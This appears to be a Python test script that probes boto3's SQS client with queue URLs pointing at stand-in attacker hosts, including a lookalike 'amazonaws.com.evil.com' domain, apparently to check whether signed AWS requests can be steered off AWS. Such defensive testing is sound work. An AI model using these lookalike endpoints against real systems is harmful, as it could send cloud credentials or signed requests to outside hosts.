import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except Exception as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
sqs = boto3.client("sqs")
for url in ("https://sqs.us-east-1.amazonaws.com/999999999999/q", "http://127.0.0.1:%d/123456789012/q" % v["tcp_port"], "https://evil.example.com/123456789012/q", "https://sqs.us-east-1.amazonaws.com.evil.com/123456789012/q", "q", "//evil.com/123456789012/q"):
    attempt(lambda: sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["All"]))
